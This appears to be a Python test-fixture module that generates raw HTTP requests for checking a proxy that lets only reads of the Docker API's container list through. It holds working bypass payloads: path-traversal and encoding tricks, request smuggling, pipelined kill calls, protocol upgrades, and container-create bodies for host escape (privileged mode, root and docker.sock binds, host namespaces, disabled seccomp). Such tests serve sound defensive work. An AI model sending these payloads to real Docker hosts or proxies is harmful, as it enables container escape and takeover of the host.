"""Requests that try to get past a guard which lets through only reading ``/containers``.

Each is sent raw; whatever the engine then sees must have been allowed.
"""

from __future__ import annotations

import json
from collections.abc import Iterator

__all__ = ["ALLOWED", "BODIES", "CREATE", "FORMS", "RAW", "request"]

ALLOWED = "GET /containers/json"
"""What the guard of these attacks lets through."""


def request(line: str, *fields: str, body: bytes = b"", host: bool = True) -> bytes:
    """A raw request; its length is said unless a field says something about it."""
    lines = [line, *(["Host: docker"] if host else []), *fields]
    told = any(field.lower().startswith(("content-length", "transfer-")) for field in fields)
    if body and not told:
        lines.append(f"Content-Length: {len(body)}")
    return "\r\n".join([*lines, "", ""]).encode("latin-1") + body


KILL = request("POST /containers/victim/kill HTTP/1.1")
GOOD = request(f"{ALLOWED} HTTP/1.1")
CHUNKED_KILL = b"0\r\n\r\n" + KILL

_PATHS = {
    "plain": "/networks",
    "versioned": "/v1.41/networks",
    "traversal from an allowed section": "/containers/../networks",
    "traversal twice": "/containers/json/../../networks",
    "encoded dots": "/containers/%2e%2e/networks",
    "encoded dots in capitals": "/containers/%2E%2E/networks",
    "half encoded dots": "/containers/.%2e/networks",
    "encoded slashes": "/containers%2f..%2fnetworks",
    "all encoded": "/%6e%65%74%77%6f%72%6b%73",
    "doubly encoded slash": "/containers%252f..%252fnetworks",
    "doubly encoded dots": "/containers/%252e%252e/networks",
    "overlong dots": "/containers/%c0%ae%c0%ae/networks",
    "overlong slash": "/containers%c0%af..%c0%afnetworks",
    "backslash": "/containers\\..\\networks",
    "encoded backslash": "/containers%5c..%5cnetworks",
    "double slash": "//networks",
    "double slash inside": "/containers//../networks",
    "dot": "/./networks",
    "dot and section": "/containers/./../networks",
    "parameters in the path": "/containers/..;/networks",
    "semicolon": "/containers;/../networks",
    "encoded question mark": "/networks%3f/containers/json",
    "encoded hash": "/networks%23/containers/json",
    "fragment": "/networks#/containers/json",
    "NUL": "/networks%00/containers/json",
    "NUL before": "/containers%00/../networks",
    "line end": "/containers%0d%0a/../networks",
    "space": "/containers%20/../networks",
    "version without number": "/v/networks",
    "version of one number": "/v1/networks",
    "version of three": "/v1.41.0/networks",
    "version of dots": "/v../networks",
    "version twice": "/v1.41/v1.41/networks",
    "version with a slash encoded": "/v1.41%2fnetworks",
    "version in capitals": "/V1.41/networks",
    "section in capitals": "/NETWORKS",
    "section in mixed case": "/Networks",
    "section as prefix": "/containersX/json",
    "section of the version": "/v1.41/containers/../networks",
    "trailing slash": "/networks/",
    "absolute": "http://docker/networks",
    "absolute without host": "http:///networks",
    "absolute with user": "http://a@b/networks",
    "absolute and traversal": "http://docker/containers/../networks",
    "absolute with an allowed host": "http://containers/networks",
    "absolute inside": "/http://docker/containers/json/../../../networks",
    "scheme without slashes": "http:networks",
    "https": "https://docker/networks",
    "authority": "docker:2375",
    "asterisk": "*",
    "empty": "",
    "query that looks like a path": "/networks?/containers/json",
    "query with the version": "/networks?version=1.41",
    "Podman's own API": "/v4.0.0/libpod/networks/json",
    "profiler": "/debug/pprof/heap",
    "unicode slash": "/containers%ef%bc%8f..%ef%bc%8fnetworks",
    "image section with traversal": "/images/%2e%2e%2fnetworks",
}

_METHODS = {
    "lower case": "post",
    "mixed case": "Post",
    "get with a trick": "GET\tPOST",
    "delete": "DELETE",
    "patch": "PATCH",
    "put": "PUT",
    "trace": "TRACE",
    "options": "OPTIONS",
    "connect": "CONNECT",
    "made up": "GETPOST",
    "post": "POST",
}


def _smuggled() -> Iterator[tuple[str, bytes]]:
    lengths = {
        "none": [],
        "right": [f"Content-Length: {len(CHUNKED_KILL)}"],
        "short": ["Content-Length: 5"],
        "zero": ["Content-Length: 0"],
        "twice": ["Content-Length: 0", f"Content-Length: {len(CHUNKED_KILL)}"],
        "list": [f"Content-Length: 0, {len(CHUNKED_KILL)}"],
        "signed": ["Content-Length: +5"],
        "hexadecimal": ["Content-Length: 0x5"],
        "spaced": ["Content-Length : 5"],
        "with a tab": ["Content-Length\t: 5"],
        "underscored": ["Content_Length: 5", "Content-Length: 0"],
        "of nothing": ["Content-Length:"],
        "negative": ["Content-Length: -1"],
        "quoted": ['Content-Length: "5"'],
        "with a fraction": ["Content-Length: 5.0"],
        "superscript": ["Content-Length: \xb2"],
        "with a zero before": [f"Content-Length: 0{len(CHUNKED_KILL)}"],
        "of this connection only": [
            "Connection: close, Content-Length",
            f"Content-Length: {len(CHUNKED_KILL)}",
        ],
        "huge": ["Content-Length: 18446744073709551621"],
    }
    encodings = {
        "none": [],
        "chunked": ["Transfer-Encoding: chunked"],
        "capitals": ["TRANSFER-ENCODING: CHUNKED"],
        "spaced": ["Transfer-Encoding : chunked"],
        "with a tab": ["Transfer-Encoding:\tchunked"],
        "vertical tab": ["Transfer-Encoding: \x0bchunked"],
        "twice": ["Transfer-Encoding: chunked", "Transfer-Encoding: chunked"],
        "identity": ["Transfer-Encoding: identity"],
        "identity, chunked": ["Transfer-Encoding: identity, chunked"],
        "chunked, identity": ["Transfer-Encoding: chunked, identity"],
        "gzip, chunked": ["Transfer-Encoding: gzip, chunked"],
        "x-chunked": ["Transfer-Encoding: xchunked"],
        "quoted": ['Transfer-Encoding: "chunked"'],
        "comma behind": ["Transfer-Encoding: chunked,"],
        "comma before": ["Transfer-Encoding: ,chunked"],
        "with a parameter": ["Transfer-Encoding: chunked;q=1"],
        "chunked and identity": ["Transfer-Encoding: chunked", "Transfer-Encoding: identity"],
        "no-break space": ["Transfer-Encoding: \xa0chunked"],
        "TE": ["TE: chunked"],
        "folded": ["Transfer-Encoding:\r\n chunked"],
        "bare CR": ["X: y\rTransfer-Encoding: chunked"],
        "bare LF": ["X: y\nTransfer-Encoding: chunked"],
        "underscored": ["Transfer_Encoding: chunked"],
    }
    for one, length in lengths.items():
        for other, encoding in encodings.items():
            yield (
                f"length {one}, encoding {other}",
                request(f"{ALLOWED} HTTP/1.1", *length, *encoding, body=CHUNKED_KILL),
            )
    for name, body in {
        "chunk longer than told": b"3\r\nabcdef\r\n0\r\n\r\n",
        "chunk extension with a line end": b"0;\nx\r\n\r\n",
        "chunk size with a sign": b"+0\r\n\r\n",
        "chunk size with a space": b" 0\r\n\r\n",
        "chunk size too large": b"10000000000000000\r\n",
        "chunk size by underscore": b"0_0\r\n\r\n",
        "chunk size by 0x": b"0x0\r\n\r\n",
        "chunk size negative": b"-0\r\n\r\n",
        "chunk size of 15 digits": b"FFFFFFFFFFFFFFF\r\n",
        "chunk size that wraps around": b"FFFFFFFFFFFFFFF0\r\n",
        "no chunk size": b"\r\n\r\n",
        "chunk extension in quotes": b'0;a="\r\n\r\n"\r\n\r\n',
        "chunk ended by CR": b"0\r\r",
        "trailer that is folded": b"0\r\nX: a\r\n b\r\n\r\n",
        "trailer with a host": b"0\r\nHost: elsewhere\r\nTransfer-Encoding: chunked\r\n\r\n",
        "chunk ended by LF": b"0\n\n",
        "trailer with a length": b"0\r\nContent-Length: 5\r\n\r\n",
        "trailer without a colon": b"0\r\nGET / HTTP/1.1\r\n\r\n",
    }.items():
        yield name, request(f"{ALLOWED} HTTP/1.1", "Transfer-Encoding: chunked", body=body + KILL)
    for name, line, *fields in (
        ("by HEAD", "HEAD /containers/json HTTP/1.1", f"Content-Length: {len(KILL)}"),
        ("by HEAD, chunked", "HEAD /containers/json HTTP/1.1", "Transfer-Encoding: chunked"),
        ("kept alive in HTTP/1.0", f"{ALLOWED} HTTP/1.0", "Connection: keep-alive"),
        ("with another expectation", f"{ALLOWED} HTTP/1.1", "Expect: 200-ok", "Content-Length: 5"),
    ):
        yield name, request(line, *fields, body=CHUNKED_KILL if "chunked" in name else KILL)
    old = request(f"{ALLOWED} HTTP/1.0", "Transfer-Encoding: chunked", body=CHUNKED_KILL)
    yield "chunked in HTTP/1.0", old
    yield (
        "expectation",
        request(f"{ALLOWED} HTTP/1.1", "Expect: 100-continue", "Content-Length: 5", body=KILL),
    )


def _raw() -> Iterator[tuple[str, bytes]]:
    for name, path in _PATHS.items():
        yield f"path: {name}", request(f"GET {path} HTTP/1.1")
    for name, method in _METHODS.items():
        yield f"method: {name}", request(f"{method} /containers/victim/kill HTTP/1.1")
    for override in ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"):
        fields = (f"{override}: POST", "X-Original-URL: /networks", "X-Rewrite-URL: /networks")
        yield f"method: {override}", request("GET /containers/victim/kill HTTP/1.1", *fields)
    for name, sent in _smuggled():
        yield f"smuggling: {name}", sent
    # Behind a call that is allowed
    for name, sent in {
        "a second request": KILL,
        "ten of them": KILL * 10,
        "empty lines between": b"\r\n\r\n" + KILL,
        "a line end that is left over": b"\n" + KILL,
        "garbage and a request": b"XX" + KILL,
        "a create call with a body": request(
            "POST /containers/create HTTP/1.1", "Content-Type: application/json", body=b"{}"
        ),
        "denied, then allowed, then denied": KILL + GOOD + KILL,
    }.items():
        yield f"pipelining: {name}", GOOD + sent
    # Ways to leave HTTP/1.1
    settings = "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"
    both = "Connection: Upgrade, HTTP2-Settings"
    for name, fields in {
        "h2c": (both, "Upgrade: h2c", settings),
        "h2c without Connection": ("Upgrade: h2c", settings),
        "h2c, only settings": (both, settings),
        "tcp": ("Connection: Upgrade", "Upgrade: tcp"),
        "websocket": (
            "Connection: Upgrade",
            "Upgrade: websocket",
            "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
            "Sec-WebSocket-Version: 13",
        ),
        "several": ("Connection: Upgrade", "Upgrade: websocket, h2c, tcp"),
        "twice": ("Connection: Upgrade", "Upgrade: tcp", "Upgrade: h2c"),
    }.items():
        yield f"upgrade: {name}", request(f"{ALLOWED} HTTP/1.1", *fields, body=KILL)
    socket = ("Connection: Upgrade", "Upgrade: websocket")
    query = "stdin=1&stdout=1&stream=1"
    attach = f"GET /containers/victim/attach/ws?{query} HTTP/1.1"
    yield "upgrade: websocket to stdin, by GET", request(attach, *socket)
    for name, path in {
        "by a link's alias": "/containers/linked/alias/attach/ws",
        "by an encoded alias": "/containers/linked%2falias/attach/ws",
        "with a slash behind": "/containers/victim/attach/ws/",
        "with a version twice": "/v1.41/v1.41/containers/victim/attach/ws",
    }.items():
        yield f"upgrade: websocket {name}", request(f"GET {path}?{query} HTTP/1.1", *socket)
        yield f"websocket without Upgrade {name}", request(f"GET {path}?{query} HTTP/1.1")
    yield "upgrade: websocket by HEAD", request(attach.replace("GET", "HEAD"), *socket)
    yield (
        "upgrade: h2c where nothing is allowed",
        request("GET /networks HTTP/1.1", both, "Upgrade: h2c", settings),
    )
    yield (
        "upgrade: attach",
        request(
            f"POST /containers/victim/attach?{query} HTTP/1.1",
            "Connection: Upgrade",
            "Upgrade: tcp",
        ),
    )
    yield "upgrade: BuildKit", request("POST /grpc HTTP/1.1", "Connection: Upgrade", "Upgrade: h2c")
    yield "HTTP/2: preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0" + KILL
    yield "HTTP/2: version", request("GET /networks HTTP/2")
    yield "HTTP/0.9", b"GET /networks\r\n\r\n"
    yield "HTTP/1.2", request("GET /networks HTTP/1.2")
    yield "TLS", b"\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03" + KILL
    # Heads that two readers could part in two places
    for name, sent in {
        "two hosts": request("GET /networks HTTP/1.1", "Host: containers"),
        "NUL in a field": request("GET /networks HTTP/1.1", "X: a\0b"),
        "control byte in the target": request("GET /containers/json\x01/../../networks HTTP/1.1"),
        "NUL in the target": request("GET /containers/json\0 HTTP/1.1") + KILL,
        "tab in the request line": request("GET\t/networks\tHTTP/1.1"),
        "two spaces": request("GET  /networks HTTP/1.1"),
        "two targets": request("GET /containers/json /networks HTTP/1.1"),
        "a folded field": request("GET /networks HTTP/1.1", "X: a\r\n b"),
        "a line end in the target": b"GET /containers/json\r\nX: HTTP/1.1\r\n\r\n" + KILL,
        "bare LF": GOOD.replace(b"\r\n", b"\n") + KILL,
        "bare CR": GOOD.replace(b"\r\n", b"\r") + KILL,
        "no name": request("GET /networks HTTP/1.1", ": x"),
        "space before the colon": request("GET /networks HTTP/1.1", "Host : x"),
        "too many fields": request("GET /networks HTTP/1.1", *["X: y"] * 1000),
        "too long a field": request("GET /networks HTTP/1.1", "X: " + "y" * (1 << 20)),
        "too long a target": request(f"GET /containers/{'x' * (1 << 21)} HTTP/1.1"),
        "bytes past ASCII": request("GET /n\xe9tworks HTTP/1.1"),
        "a body nobody asked for": request("GET /networks HTTP/1.1", body=KILL),
        "without a host": request("GET /networks HTTP/1.1", host=False),
        "a head that is cut": b"GET /networks HTTP/1.1\r\nHost: d",
    }.items():
        yield f"head: {name}", sent


RAW = list(_raw())
"""Attacks on a guard that allows ``/containers`` to be read: what they are, and their bytes."""

IMAGE = "busybox:local"
CREATE = "/containers/create"
_BIND = {"type": "none", "o": "bind", "device": "/"}


def _created() -> Iterator[tuple[str, str, object]]:
    for name, host in {
        "privileged": {"Privileged": True},
        "a bind": {"Binds": ["/:/host"]},
        "a bind of the socket": {"Binds": ["/var/run/docker.sock:/s"]},
        "a bind of its folder": {"Binds": ["/var/run:/s"]},
        "a bind by dots": {"Binds": ["/srv/../:/host"]},
        "a mount": {"Mounts": [{"Type": "bind", "Source": "/", "Target": "/host"}]},
        "a volume that is a bind": {
            "Mounts": [
                {
                    "Type": "volume",
                    "Source": "v1",
                    "Target": "/host",
                    "VolumeOptions": {"DriverConfig": {"Name": "local", "Options": _BIND}},
                }
            ]
        },
        "the mounts of another": {"VolumesFrom": ["victim"]},
        "the mounts of another, to read": {"VolumesFrom": ["victim:ro"]},
        "a volume driver": {"VolumeDriver": "anything", "Binds": ["v:/x"]},
        "the host's network": {"NetworkMode": "host"},
        "another's processes": {"PidMode": "container:victim"},
        "another's network": {"NetworkMode": "container:victim"},
        "another's IPC": {"IpcMode": "container:victim"},
        "the host's control groups": {"CgroupnsMode": "host"},
        "the host's processes": {"PidMode": "host"},
        "the host's IPC": {"IpcMode": "host"},
        "the host's users": {"UsernsMode": "host"},
        "the host's name": {"UTSMode": "host"},
        "a capability": {"CapAdd": ["SYS_ADMIN"]},
        "a capability as text": {"CapAdd": "SYS_ADMIN"},
        "a device": {"Devices": [{"PathOnHost": "/dev/sda", "PathInContainer": "/dev/sda"}]},
        "a device rule": {"DeviceCgroupRules": ["b *:* rwm"]},
        "no seccomp": {"SecurityOpt": ["seccomp=unconfined"]},
        "no masked paths": {"MaskedPaths": []},
        "no read-only paths": {"ReadonlyPaths": []},
        "no AppArmor": {"SecurityOpt": ["apparmor:unconfined"]},
        "no SELinux": {"SecurityOpt": ["label=disable"]},
        "unconfined paths": {"SecurityOpt": ["systempaths=unconfined"]},
        "a GPU": {"DeviceRequests": [{"Count": -1, "Capabilities": [["gpu"]]}]},
        "all capabilities": {"CapAdd": ["ALL"]},
        "the Kelvin sign's network": {"Networ\u212aMode": "host"},
    }.items():
        yield f"create: {name}", CREATE, {"Image": IMAGE, "HostConfig": host}
        yield f"create: {name}, at the top", CREATE, {"Image": IMAGE, **host}
    privileged = '"Privileged":true'
    for name, body in {
        "other case": f'{{"Image":"{IMAGE}","hostconfig":{{"PRIVILEGED":true}}}}',
        "letters that fold": f'{{"Image":"{IMAGE}","Ho\u017ftConfig":{{{privileged}}}}}',
        "escaped names": f'{{"Image":"{IMAGE}","Host\\u0043onfig":{{{privileged}}}}}',
        "said twice, the first": f'{{"Image":"{IMAGE}","HostConfig":{{{privileged}}},'
        '"HostConfig":{}}',
        "said twice, the second": f'{{"Image":"{IMAGE}","HostConfig":{{}},'
        f'"HostConfig":{{{privileged}}}}}',
        "twice within": f'{{"Image":"{IMAGE}","HostConfig":{{{privileged},"Privileged":false}}}}',
        "something behind it": f'{{"Image":"{IMAGE}"}} {{"HostConfig":{{{privileged}}}}}',
        "something that is no JSON behind it": f'{{"Image":"{IMAGE}",'
        f'"HostConfig":{{{privileged}}}}} x',
        "a byte order mark": f'\ufeff{{"HostConfig":{{{privileged}}}}}',
        "a comment": f'{{/* */"HostConfig":{{{privileged}}}}}',
        "nested deeply": "[" * 100_000,
        "longer than is looked at": json.dumps(
            {"Image": IMAGE, "x": "y" * (5 << 20), "HostConfig": {"Privileged": True}}
        ),
    }.items():
        yield f"create: {name}", CREATE, body.encode()
    utf16 = json.dumps({"Image": IMAGE, "HostConfig": {"Privileged": True}}).encode("utf-16")
    yield "create: UTF-16", CREATE, utf16
    yield (
        "start with a host config, as old clients",
        "/v1.23/containers/victim/start",
        {
            "Binds": ["/:/host"],
            "Privileged": True,
        },
    )
    yield "exec: privileged", "/containers/victim/exec", {"Cmd": ["id"], "Privileged": True}
    for name in ("linked/alias", "linked%2falias"):
        path = f"/containers/{name}/exec"
        yield f"exec: privileged, by the alias {name}", path, {"Cmd": ["id"], "Privileged": True}
    yield "update: devices", "/containers/victim/update", {"Devices": [{"PathOnHost": "/dev/sda"}]}
    rights = {"ContainerSpec": {"Image": IMAGE, "Mounts": [{"Type": "bind", "Source": "/"}]}}
    for name, task in {
        "a mount": rights,
        "a capability": {"ContainerSpec": {"CapabilityAdd": ["CAP_SYS_ADMIN"]}},
        "a plugin": {"Runtime": "plugin", "PluginSpec": {"Remote": "evil/plugin"}},
        "the host's network": {"Networks": [{"Target": "host"}]},
    }.items():
        yield f"service: {name}", "/services/create", {"Name": "s", "TaskTemplate": task}
        yield f"service: {name}, later", "/services/s/update?version=1", {"TaskTemplate": task}
    yield "swarm: of somebody else", "/swarm/join", {"RemoteAddrs": ["192.0.2.1:2377"]}
    yield "volume: a bind", "/volumes/create", {"Name": "v2", "DriverOpts": _BIND}
    yield (
        "volume: a relative bind",
        "/volumes/create",
        {
            "Name": "v3",
            "DriverOpts": {"type": "none", "o": "rbind", "device": "etc"},
        },
    )
    yield (
        "volume: a disk",
        "/volumes/create",
        {
            "Name": "v4",
            "DriverOpts": {"type": "ext4", "device": "/dev/sda1"},
        },
    )
    yield "volume: another driver", "/volumes/create", {"Name": "v5", "Driver": "anything"}
    yield "build: the host's network", "/build?networkmode=host&remote=x", b""
    yield "build: another's network", "/build?networkmode=container:victim&remote=x", b""
    yield "build: said twice", "/build?networkmode=default&networkmode=host&remote=x", b""
    yield "build: encoded", "/build?%6eetworkmode=%68ost&remote=x", b""
    yield "plugin", "/plugins/pull?remote=evil/plugin", []


def _forms() -> Iterator[tuple[str, bytes]]:
    form, json_type = "application/x-www-form-urlencoded", "application/json"
    for name, kinds in {
        "a form": [form],
        "a form, then JSON": [form, json_type],
        "JSON, then a form": [json_type, form],
        "a form with a parameter": [f"{form}; charset=utf-8"],
        "a form in capitals": [form.upper()],
    }.items():
        fields = [f"Content-Type: {kind}" for kind in kinds]
        line = "POST /build?remote=x HTTP/1.1"
        yield (
            f"build: the host's network in {name}",
            request(line, *fields, body=b"networkmode=host"),
        )


FORMS = list(_forms())
"""Attacks on a guard that allows building, whose parameters are in the body."""


BODIES = [
    (name, path, body if isinstance(body, bytes) else json.dumps(body).encode())
    for name, path, body in _created()
]
"""Attacks on a guard that allows creating but forbids all that gives away the host."""
